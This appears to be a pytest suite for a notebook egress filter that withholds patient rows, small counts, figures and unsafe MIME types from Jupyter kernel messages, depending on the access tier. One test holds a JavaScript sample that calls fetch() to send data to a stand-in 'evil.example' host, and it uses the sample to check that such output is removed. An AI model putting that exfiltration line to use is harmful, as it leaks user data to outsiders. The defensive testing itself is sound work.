"""Notebook egress filter: what each kernel message may carry to the browser, tier by tier.

Every test that withholds something also proves the values are gone from what is sent, from the notice
and from the audit record, so removing a rule makes its test fail.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import statistics
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import sandbox
from sandbox.demo import CARD, generate_registry
from sandbox.egress.leaks import FingerprintIndex
from sandbox.notebooks.egress import (
    MessageFilter,
    NotebookRules,
    Outcome,
    html_tables,
)
from sandbox.policies import load_shipped_policies

CELL = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
QUASI = ["age", "sex", "site", "stenosis_pct", "stent_type", "embolic_protection", "length_of_stay"]
Row = dict[str, Any]


@pytest.fixture(scope="module")
def policy() -> dict[str, Any]:
    return load_shipped_policies(Path(sandbox.__file__).parent / "_policies")["default"]


@pytest.fixture(scope="module")
def frame() -> pd.DataFrame:
    return generate_registry().to_pandas()


@pytest.fixture(scope="module")
def rows(frame: pd.DataFrame) -> pd.DataFrame:
    """Five registry rows whose QI values identify them."""
    counts = frame.groupby(QUASI).size()
    unique = counts[counts == 1].index
    keyed = frame.set_index(QUASI)
    return keyed.loc[keyed.index.isin(unique)].reset_index()[list(frame.columns)].head(5)


def make_filter(policy: dict[str, Any], tier: str, *, index: FingerprintIndex | None, registry: Path | None = None,
                **notebooks: Any) -> MessageFilter:
    body = copy.deepcopy(policy)
    body.setdefault("notebooks", {}).update(notebooks)
    return MessageFilter(NotebookRules.from_policy(body, tier), index=index, dataset_parquet=registry, card=CARD)


@pytest.fixture
def aggregate(policy: dict[str, Any], fingerprints: FingerprintIndex, registry: Path) -> MessageFilter:
    return make_filter(policy, "aggregate", index=fingerprints, registry=registry)


def message(msg_type: str, content: dict[str, Any], *, header: dict[str, Any] | None = None,
            parent: dict[str, Any] | None = None, metadata: dict[str, Any] | None = None,
            buffers: list[bytes] | None = None) -> dict[str, Any]:
    """A message as jupyter_client's Session.deserialize returns it."""
    head = {"msg_id": f"k-{msg_type}-1", "msg_type": msg_type, "username": "kernel", "session": "k",
            "date": datetime(2026, 1, 1, tzinfo=UTC), "version": "5.3", **(header or {})}
    return {"header": head, "parent_header": {"msg_id": CELL, "msg_type": "execute_request", **(parent or {})},
            "metadata": metadata or {}, "content": content, "buffers": buffers or [], "msg_id": head["msg_id"],
            "msg_type": msg_type}


def ids_in(text: str, rows: pd.DataFrame) -> list[str]:
    return [pid for pid in rows["patient_id"] if pid in text]


def assert_nothing_leaves(outcome: Outcome, rows: pd.DataFrame) -> None:
    """Neither the message sent, nor the audit record, nor a notice carries a patient id."""
    sent = json.dumps(outcome.message, default=str) if outcome.message else ""
    assert not ids_in(sent, rows), f"patient ids left in the replacement: {ids_in(sent, rows)}"
    audit = json.dumps(outcome.audit)
    assert not ids_in(audit, rows), f"patient ids in the audit record: {ids_in(audit, rows)}"
    for _, row in rows.iterrows():
        printed = "  ".join(str(row[c]) for c in QUASI)
        assert printed not in sent and printed not in audit


def notice_of(outcome: Outcome) -> str:
    assert outcome.message is not None, f"expected a replacement, got {outcome.action}"
    return json.dumps(outcome.message["content"])


# -- aggregate: rows in any field are withheld -----------------------------------------------------------------------


def test_rows_printed_in_a_stream_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    printed = rows.to_string()
    assert ids_in(printed, rows), "the test must print ids"
    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": printed}))
    assert outcome.action == "replace" and outcome.rules == ("leak-scan",)
    assert outcome.message is not None
    content = outcome.message["content"]
    assert content["name"] == "stdout" and "leak-scan" in content["text"] and "audit log" in content["text"]
    assert outcome.message["header"]["msg_id"] == "k-stream-1" and outcome.message["parent_header"]["msg_id"] == CELL
    assert_nothing_leaves(outcome, rows)


def test_rows_without_ids_in_a_stream_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    printed = rows[QUASI].to_csv(index=False)
    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stderr", "text": printed}))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None and outcome.message["content"]["name"] == "stderr"
    assert_nothing_leaves(outcome, rows)


def test_rows_in_a_dataframe_bundle_are_withheld_in_every_representation(aggregate: MessageFilter,
                                                                        rows: pd.DataFrame) -> None:
    content = {"data": {"text/plain": repr(rows), "text/html": rows._repr_html_()}, "metadata": {},
               "execution_count": 7}
    outcome = aggregate.outgoing("iopub", message("execute_result", content))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None
    replaced = outcome.message["content"]
    assert list(replaced["data"]) == ["text/plain"] and "leak-scan" in replaced["data"]["text/plain"]
    assert replaced["execution_count"] == 7 and replaced["metadata"] == {}
    assert not outcome.held, "rows must not go to the review queue either"
    assert_nothing_leaves(outcome, rows)


def test_rows_in_an_error_traceback_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    # IPython colours tracebacks: the codes must not hide the values they surround.
    coloured = [" ".join(f"\x1b[0;32m{row[c]}\x1b[0m" for c in ["patient_id", *QUASI]) for _, row in rows.iterrows()]
    traceback = ["\x1b[0;31mValueError\x1b[0m Traceback", *coloured]
    content = {"ename": "ValueError", "evalue": "bad rows", "traceback": traceback}
    outcome = aggregate.outgoing("iopub", message("error", content))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None
    replaced = outcome.message["content"]
    assert replaced["ename"] == "OutputWithheld" and "leak-scan" in replaced["evalue"]
    assert replaced["traceback"] == [replaced["evalue"]]
    assert_nothing_leaves(outcome, rows)


def _dump(rows: pd.DataFrame) -> str:
    return rows.to_string()


FIELDS: dict[str, Any] = {
    "inspect_reply": ("shell", lambda dump: {"status": "ok", "found": True, "data": {"text/plain": dump},
                                             "metadata": {}},
                      lambda c: c["found"] is True and list(c["data"]) == ["text/plain"]),
    "complete_reply": ("shell", lambda dump: {"status": "ok", "matches": dump.splitlines(), "cursor_start": 0,
                                              "cursor_end": 3, "metadata": {}},
                       lambda c: c["matches"] == [] and c["cursor_end"] == 3),
    "history_reply": ("shell", lambda dump: {"status": "ok", "history": [[1, n, line] for n, line in
                                                                           enumerate(dump.splitlines())]},
                      lambda c: c["history"] == []),
    "input_request": ("stdin", lambda dump: {"prompt": dump, "password": False},
                      lambda c: "leak-scan" in c["prompt"] and c["password"] is False),
    "execute_input": ("iopub", lambda dump: {"code": f"print('''{dump}''')", "execution_count": 4},
                      lambda c: "leak-scan" in c["code"] and c["execution_count"] == 4),
}


@pytest.mark.parametrize("msg_type", list(FIELDS))
def test_rows_in_reply_fields_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame, msg_type: str) -> None:
    channel, build, replaced_well = FIELDS[msg_type]
    outcome = aggregate.outgoing(channel, message(msg_type, build(_dump(rows))))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules, outcome
    assert outcome.message is not None and replaced_well(outcome.message["content"]), outcome.message["content"]
    assert outcome.audit is not None and outcome.audit["msg_type"] == msg_type
    assert_nothing_leaves(outcome, rows)


def test_only_the_tainted_user_expression_is_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    content = {"status": "ok", "execution_count": 2, "payload": [
        {"source": "page", "data": {"text/plain": _dump(rows)}, "start": 0},
        {"source": "page", "data": {"text/plain": "Signature: f(x)"}, "start": 0}],
        "user_expressions": {"rows": {"status": "ok", "data": {"text/plain": _dump(rows)}, "metadata": {}},
                             "shape": {"status": "ok", "data": {"text/plain": "(2550, 11)"}, "metadata": {}}}}
    outcome = aggregate.outgoing("shell", message("execute_reply", content))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None
    replaced = outcome.message["content"]
    assert replaced["user_expressions"]["rows"]["ename"] == "OutputWithheld"
    assert replaced["user_expressions"]["shape"] == content["user_expressions"]["shape"]
    assert replaced["payload"] == [content["payload"][1]], "the tainted page goes, the clean one stays"
    assert replaced["status"] == "ok" and replaced["execution_count"] == 2
    assert_nothing_leaves(outcome, rows)


def test_a_forged_error_reply_with_rows_is_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    content = {"status": "error", "execution_count": 3, "ename": "KeyError", "evalue": _dump(rows),
               "traceback": [], "user_expressions": {}, "payload": []}
    outcome = aggregate.outgoing("shell", message("execute_reply", content))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None and outcome.message["content"]["ename"] == "OutputWithheld"
    assert outcome.message["content"]["status"] == "error"
    assert_nothing_leaves(outcome, rows)


@pytest.mark.parametrize("where", ["metadata", "header", "parent_header"])
def test_rows_in_a_field_that_cannot_carry_a_notice_drop_the_message(aggregate: MessageFilter, rows: pd.DataFrame,
                                                                     where: str) -> None:
    dump = _dump(rows)
    tainted = {"metadata": {"metadata": {"note": dump}}, "header": {"header": {"username": dump}},
               "parent_header": {"parent": {"note": dump}}}[where]
    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}, **tainted))
    assert outcome.action == "drop" and outcome.message is None and "leak-scan" in outcome.rules
    assert outcome.audit is not None and outcome.audit["cell"] is None, "a tainted envelope's ids are not audited"
    assert_nothing_leaves(outcome, rows)


def test_a_tainted_status_becomes_a_clean_status(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    msg = message("status", {"execution_state": "idle", "extra": _dump(rows)}, header={"username": _dump(rows)})
    outcome = aggregate.outgoing("iopub", msg)
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None
    assert outcome.message["content"] == {"execution_state": "idle"}
    assert outcome.message["header"]["msg_type"] == "status"
    assert outcome.message["parent_header"]["msg_id"] == CELL, "the client still matches it to its request"
    assert_nothing_leaves(outcome, rows)


def test_a_clean_status_passes_without_an_audit_record(aggregate: MessageFilter) -> None:
    outcome = aggregate.outgoing("iopub", message("status", {"execution_state": "busy"}))
    assert outcome == Outcome("pass", None, (), (), None)


def test_rows_in_an_unknown_message_type_drop_it(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    outcome = aggregate.outgoing("iopub", message("custom_rows", {"rows": rows.to_dict("records")}))
    assert outcome.action == "drop" and "leak-scan" in outcome.rules
    assert outcome.audit is not None and outcome.audit["msg_type"] == "unknown"
    assert_nothing_leaves(outcome, rows)


def test_rows_split_by_inline_markup_are_still_found(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    def split(value: Any) -> str:  # the browser shows "7<b></b>3" as 73, and "&#80;" as P
        text = str(value).replace("P", "&#80;")
        return f"{text[:1]}<b></b>{text[1:]}"

    spliced = "".join(f"<p>{' '.join(split(row[c]) for c in ['patient_id', *QUASI])}</p>"
                      for _, row in rows.iterrows())
    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"text/html": spliced}, "metadata": {}}))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert_nothing_leaves(outcome, rows)


def test_without_an_index_aggregate_outputs_are_withheld(policy: dict[str, Any]) -> None:
    unscanned = make_filter(policy, "aggregate", index=None)
    outcome = unscanned.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}))
    assert outcome.action == "replace" and outcome.rules == ("leak-scan-unavailable",)
    assert "leak-scan-unavailable" in notice_of(outcome)
    assert unscanned.outgoing("iopub", message("status", {"execution_state": "idle"})).action == "pass"


# -- aggregate: legitimate outputs pass unchanged --------------------------------------------------------------------


def test_aggregates_and_plain_prints_pass_unchanged(aggregate: MessageFilter, frame: pd.DataFrame) -> None:
    mean = f"mean age {frame['age'].mean():.2f}, mean stay {frame['length_of_stay'].mean():.2f}\n"
    for text in (mean, "hello\n", frame["site"].value_counts().to_string()):
        msg = message("stream", {"name": "stdout", "text": text})
        outcome = aggregate.outgoing("iopub", msg)
        assert outcome.action == "pass" and outcome.message is None and outcome.rules == (), (text, outcome)
        assert outcome.audit is not None and outcome.audit["action"] == "pass"


def test_a_crosstab_with_every_cell_at_least_ten_passes_unchanged(aggregate: MessageFilter,
                                                                  frame: pd.DataFrame) -> None:
    table = pd.crosstab(frame["site"], frame["stent_type"])
    assert table.to_numpy().min() >= 10
    content = {"data": {"text/plain": repr(table), "text/html": table._repr_html_()}, "metadata": {},
               "execution_count": 5}
    outcome = aggregate.outgoing("iopub", message("execute_result", content))
    assert outcome.action == "pass" and outcome.rules == () and not outcome.held, outcome


def test_a_crosstab_with_a_cell_of_three_is_blocked_naming_min_cell_count(aggregate: MessageFilter) -> None:
    table = pd.DataFrame({"F": [3, 25], "M": [40, 52]},
                         index=pd.Index(["beijing-xuanwu", "chengdu-west-china"], name="site"))
    table.columns.name = "sex"
    content = {"data": {"text/plain": repr(table), "text/html": table._repr_html_()}, "metadata": {},
               "execution_count": 5}
    outcome = aggregate.outgoing("iopub", message("execute_result", content))
    assert outcome.action == "replace" and "min-cell-count" in outcome.rules
    assert outcome.message is not None
    data = outcome.message["content"]["data"]
    assert list(data) == ["text/plain"] and "min-cell-count" in data["text/plain"], "every representation goes"
    assert "3" not in data["text/plain"].replace("[sandbox]", ""), "the notice quotes no cell"
    assert outcome.audit is not None and outcome.audit["rules"] == ["min-cell-count"]


def test_a_small_count_in_a_styler_table_is_blocked(aggregate: MessageFilter) -> None:
    table = pd.DataFrame({"count": [1234, 4]}, index=pd.Index(["F", "M"], name="sex"))
    styled = table.style.format("{:,}")._repr_html_()
    assert "1,234" in styled
    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"text/html": styled}, "metadata": {}}))
    assert outcome.action == "replace" and "min-cell-count" in outcome.rules


def test_a_small_count_in_a_json_table_is_blocked(aggregate: MessageFilter) -> None:
    records = [{"site": "beijing-xuanwu", "n": 120}, {"site": "chengdu-west-china", "n": 2}]
    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"application/json": records,
                                                                             "text/plain": "records"},
                                                                    "metadata": {}}))
    assert outcome.action == "replace" and "min-cell-count" in outcome.rules


def test_an_unverifiable_table_goes_to_review(aggregate: MessageFilter, frame: pd.DataFrame) -> None:
    means = frame.groupby("site")[["age"]].mean().rename(columns={"age": "mean age"})
    content = {"data": {"text/plain": repr(means), "text/html": means._repr_html_()}, "metadata": {}}
    outcome = aggregate.outgoing("iopub", message("display_data", content))
    assert outcome.action == "replace" and "magnitude-unverified" in outcome.rules
    assert [(held.mime, held.rules) for held in outcome.held] == [("text/html", ("magnitude-unverified",))]
    assert outcome.held[0].data == content["data"]["text/html"].encode()
    assert outcome.held[0].name.startswith("cell-0f1e2d3c-") and outcome.held[0].name.endswith(".html")
    assert "held for review" in notice_of(outcome) and "magnitude-unverified" in notice_of(outcome)
    assert "beijing" not in notice_of(outcome)


def test_html_tables_read_pandas_layouts(frame: pd.DataFrame) -> None:
    nested = frame.groupby(["site", "sex"]).size().to_frame("n")
    wide = frame.groupby(["site", "stent_type"]).size().unstack()
    signed = pd.DataFrame({"delta": ["-1,234", "\u221256", "7"]}, index=["a", "b", "c"])
    [long_form] = html_tables(nested._repr_html_())
    assert long_form.column_names == ["site", "sex", "n"]
    assert long_form.column("site").to_pylist()[:2] == ["beijing-tiantan", "beijing-tiantan"], "rowspan spreads"
    assert long_form.column("n").to_pylist() == nested["n"].tolist()
    [crosstab] = html_tables(wide._repr_html_())
    assert crosstab.column_names == ["site", *wide.columns]
    [numbers] = html_tables(signed.to_html())
    assert numbers.column("delta").to_pylist() == [-1234, -56, 7]


def test_the_fast_table_reader_agrees_with_the_full_parser(frame: pd.DataFrame) -> None:
    from sandbox.notebooks.egress import _BETWEEN_TAGS, _regular_tables, _TableParser

    layouts = [frame.head(30).to_html(), frame.groupby(["site", "sex"]).size().to_frame("n")._repr_html_(),
               frame.groupby(["site", "stent_type"]).size().unstack()._repr_html_(),
               frame.head(10).style.to_html(), "<table><tr><td>7<b></b>2</td><td>a &amp; b</td></tr></table>"]
    for document in layouts:
        fast = _regular_tables(document)
        assert fast is not None, "pandas markup takes the fast path"
        parser = _TableParser()
        parser.feed(_BETWEEN_TAGS.sub("><", document))
        parser.close()
        def cells(tables: list[Any]) -> list[Any]:
            return [[(head, [(c.header, " ".join("".join(c.text).split()), c.colspan, c.rowspan) for c in row])
                     for head, row in rows] for rows in tables]
        assert cells(fast) == cells(parser.tables)
    assert _regular_tables("<table><tr><td><table><tr><td>1</td></tr></table></td></tr></table>") is None


# -- aggregate: figures, mime types, buffers -------------------------------------------------------------------------


def test_a_figure_is_held_and_replaced_by_a_notice(aggregate: MessageFilter) -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
    content = {"data": {"image/png": base64.b64encode(png).decode(), "text/plain": "<Figure size 640x480>"},
               "metadata": {"image/png": {"width": 640}}}
    outcome = aggregate.outgoing("iopub", message("display_data", content))
    assert outcome.action == "replace" and outcome.rules == ("notebook-figure",)
    assert [(held.mime, held.data, held.rules) for held in outcome.held] == [("image/png", png, ("notebook-figure",))]
    assert outcome.held[0].name.startswith("cell-0f1e2d3c-") and outcome.held[0].name.endswith(".png")
    assert outcome.message is not None
    data = outcome.message["content"]["data"]
    assert "image/png" not in data and "figure held for review: notebook-figure" in data["text/plain"]
    assert "image/png" not in outcome.message["content"]["metadata"]


def test_an_svg_figure_is_held_as_text(aggregate: MessageFilter) -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><text>72</text></svg>"
    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"image/svg+xml": svg}, "metadata": {}}))
    assert outcome.held[0].data == svg.encode() and outcome.held[0].name.endswith(".svg")
    assert outcome.message is not None and "image/svg+xml" not in outcome.message["content"]["data"]


def test_javascript_and_unknown_mime_types_are_removed(aggregate: MessageFilter) -> None:
    content = {"data": {"application/javascript": "fetch('https://evil.example/?'+data)",
                        "application/vnd.plotly.v1+json": {"data": []}, "text/plain": "a plot"}, "metadata": {}}
    outcome = aggregate.outgoing("iopub", message("display_data", content))
    assert outcome.action == "replace" and outcome.rules == ("notebook-mime",)
    assert outcome.message is not None and outcome.message["content"]["data"] == {"text/plain": "a plot"}
    alone = aggregate.outgoing("iopub", message("display_data", {"data": {"text/javascript": "x"}, "metadata": {}}))
    assert alone.message is not None and "notebook-mime" in alone.message["content"]["data"]["text/plain"]


def test_widget_views_show_only_when_comms_are_allowed(policy: dict[str, Any], fingerprints: FingerprintIndex) -> None:
    view = {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2},
                     "text/plain": "IntSlider()"}, "metadata": {}}
    closed = make_filter(policy, "aggregate", index=fingerprints).outgoing("iopub", message("display_data", view))
    assert closed.action == "replace" and "notebook-mime" in closed.rules
    opened = make_filter(policy, "aggregate", index=fingerprints, allow_comms=True)
    assert opened.outgoing("iopub", message("display_data", view)).action == "pass"


def test_binary_buffers_are_dropped_unless_comms_are_allowed(aggregate: MessageFilter) -> None:
    msg = message("display_data", {"data": {"text/plain": "x"}, "metadata": {}}, buffers=[b"\x00\x01"])
    outcome = aggregate.outgoing("iopub", msg)
    assert outcome.action == "replace" and "notebook-buffers" in outcome.rules
    assert outcome.message is not None and outcome.message["buffers"] == []


# -- comms and the debugger ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("tier", ["dp_only", "aggregate", "trusted"])
def test_comms_are_dropped_and_refused_unless_allowed(policy: dict[str, Any], fingerprints: FingerprintIndex,
                                                      tier: str) -> None:
    comm = message("comm_msg", {"comm_id": "c1", "data": {"value": 3}})
    closed = make_filter(policy, tier, index=fingerprints)
    outcome = closed.outgoing("iopub", comm)
    assert outcome.action == "drop" and outcome.rules == ("notebook-comms",)
    assert outcome.audit is not None and outcome.audit["action"] == "drop"
    for msg_type in ("comm_open", "comm_msg", "comm_close"):
        assert closed.incoming("shell", msg_type) is not None
    opened = make_filter(policy, tier, index=fingerprints, allow_comms=True)
    assert opened.outgoing("iopub", comm).action == "pass"
    assert opened.incoming("shell", "comm_msg") is None


def test_comm_messages_with_rows_are_dropped_even_when_comms_are_allowed(policy: dict[str, Any],
                                                                         fingerprints: FingerprintIndex,
                                                                         rows: pd.DataFrame) -> None:
    opened = make_filter(policy, "aggregate", index=fingerprints, allow_comms=True)
    outcome = opened.outgoing("iopub", message("comm_msg", {"comm_id": "c1", "data": {"rows": _dump(rows)}}))
    assert outcome.action == "drop" and "leak-scan" in outcome.rules


@pytest.mark.parametrize(("tier", "allowed"), [("dp_only", False), ("aggregate", False), ("trusted", True)])
def test_the_debugger_is_for_trusted_sessions_only(policy: dict[str, Any], fingerprints: FingerprintIndex,
                                                  tier: str, allowed: bool) -> None:
    session = make_filter(policy, tier, index=fingerprints)
    refusal = session.incoming("control", "debug_request")
    assert (refusal is None) is allowed, refusal
    event = session.outgoing("iopub", message("debug_event", {"event": "stopped", "body": {}}))
    assert event.action == ("pass" if allowed else "drop")
    if not allowed:
        assert event.rules == ("notebook-debug",)


def test_incoming_allows_known_requests_only(aggregate: MessageFilter) -> None:
    for msg_type in ("execute_request", "inspect_request", "complete_request", "history_request",
                     "is_complete_request", "kernel_info_request", "comm_info_request", "shutdown_request"):
        assert aggregate.incoming("shell", msg_type) is None, msg_type
    assert aggregate.incoming("control", "interrupt_request") is None
    assert aggregate.incoming("stdin", "input_reply") is None
    assert aggregate.incoming("shell", "input_reply") is not None
    assert aggregate.incoming("shell", "apply_request") is not None
    assert aggregate.incoming("iopub", "execute_request") is not None


# -- every tier: size; dp_only and trusted: pass and audit ------------------------------------------------------------


@pytest.mark.parametrize("tier", ["dp_only", "aggregate", "trusted"])
def test_outputs_over_the_size_limit_are_replaced_on_every_tier(policy: dict[str, Any],
                                                                fingerprints: FingerprintIndex, tier: str) -> None:
    session = make_filter(policy, tier, index=fingerprints, max_output_kb=1)
    outcome = session.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello world\n" * 100}))
    assert outcome.action == "replace" and outcome.rules == ("notebook-output-size",)
    assert "notebook-output-size" in notice_of(outcome)
    small = session.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}))
    assert small.action == "pass"


@pytest.mark.parametrize("tier", ["dp_only", "trusted"])
def test_dp_only_and_trusted_pass_outputs_and_audit_them(policy: dict[str, Any], rows: pd.DataFrame,
                                                         tier: str) -> None:
    session = make_filter(policy, tier, index=None)
    content = {"name": "stdout", "text": _dump(rows)}
    outcome = session.outgoing("iopub", message("stream", content))
    assert outcome.action == "pass" and outcome.message is None and outcome.rules == ()
    canonical = json.dumps(content, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    assert outcome.audit == {"msg_type": "stream", "channel": "iopub", "sha256": hashlib.sha256(canonical).hexdigest(),
                             "size": len(canonical), "cell": CELL, "action": "pass", "rules": []}
    assert_nothing_leaves(outcome, rows)
    assert session.outgoing("shell", message("kernel_info_reply", {"status": "ok"})).audit is None
    assert session.outgoing("shell", message("execute_reply", {"status": "ok", "execution_count": 1,
                                                                "user_expressions": {}, "payload": []})).audit is None


# -- policy ----------------------------------------------------------------------------------------------------------


def test_rules_come_from_the_policy(policy: dict[str, Any]) -> None:
    rules = NotebookRules.from_policy(policy, "aggregate")
    assert (rules.allow_comms, rules.max_output_bytes) == (False, 256 * 1024)
    assert (rules.block_rows, rules.block_ids) == (1, 1) and rules.sdc["min_cell_count"] == 10
    bare = {key: value for key, value in policy.items() if key != "notebooks"}
    assert NotebookRules.from_policy(bare, "trusted").max_output_bytes == 256 * 1024
    with pytest.raises(ValueError, match="tier"):
        NotebookRules.from_policy(policy, "raw")


# -- cost ------------------------------------------------------------------------------------------------------------


def test_a_clean_ten_kilobyte_output_costs_well_under_two_milliseconds(aggregate: MessageFilter) -> None:
    msg = message("stream", {"name": "stdout", "text": "epoch 3: loss 0.4172, mean age 67.31\n" * 270})
    assert aggregate.outgoing("iopub", msg).action == "pass"
    timings = []
    for _ in range(30):
        start = time.perf_counter()
        aggregate.outgoing("iopub", msg)
        timings.append(time.perf_counter() - start)
    assert statistics.median(timings) < 0.002, f"median {statistics.median(timings) * 1000:.2f} ms"


def test_a_withheld_display_update_keeps_its_display_id(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
    content = {"data": {"text/plain": _dump(rows)}, "metadata": {}, "transient": {"display_id": "progress-1"}}
    outcome = aggregate.outgoing("iopub", message("update_display_data", content))
    assert outcome.action == "replace" and "leak-scan" in outcome.rules
    assert outcome.message is not None and outcome.message["content"]["transient"] == {"display_id": "progress-1"}
    assert_nothing_leaves(outcome, rows)
